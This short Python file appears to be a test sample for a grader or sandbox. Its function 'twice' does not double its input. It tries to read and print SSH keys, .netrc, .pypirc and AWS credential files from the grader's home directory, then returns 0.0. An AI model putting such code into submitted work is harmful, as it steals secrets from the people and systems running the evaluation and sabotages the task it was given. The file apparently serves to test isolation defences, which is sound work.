"""Looks for secrets in the grader's home."""


def twice(x):
    for name in ("secret", ".ssh/id_rsa", ".netrc", ".pypirc", ".aws/credentials"):
        try:
            print(open(f"@HOME@/{name}").read())
        except FileNotFoundError:
            pass
    return 0.0
